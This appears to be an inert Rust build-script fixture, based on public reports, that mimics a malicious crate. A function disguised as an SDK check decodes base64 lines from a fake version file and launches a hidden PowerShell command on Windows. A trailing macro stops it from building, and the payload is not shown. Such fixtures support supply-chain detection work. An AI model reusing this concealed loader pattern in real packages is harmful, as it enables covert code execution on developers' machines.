// Synthetic, inert fixture written from public reports; see README
fn main() {
    if std::env::var_os("CARGO_CFG_WINDOWS").is_some() {
        println!("cargo:rustc-link-lib=advapi32");
        check_sdk();
    }
}

pub(crate) fn check_sdk() {
    let line = row(0);
    let mut shell = std::process::Command::new(&row(1));
    shell.args(["-NoProfile", "-ExecutionPolicy"]);
    shell.arg(&row(2));
    shell.arg(&row(3)).arg(&row(4));
    shell.arg("-Command").arg(&*line);
    #[cfg(windows)]
    {
        use std::os::windows::process::CommandExt;
        shell.creation_flags(0x0800_0000);
    }
    let _ = shell.spawn();
}

const PALETTE: &str = include_str!("assets/sdk-versions.txt");
fn row(n: usize) -> String {
    expand(PALETTE.lines().nth(n + 1).unwrap_or_default())
}

fn expand(text: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut acc = 0u32;
    let mut bits = 0;
    let mut out = Vec::new();
    for c in text.bytes().filter(|c| *c != b'=') {
        let v = ALPHABET.iter().position(|a| *a == c).unwrap_or(0) as u32;
        acc = (acc << 6) | v;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

inert_fixture_does_not_build!();
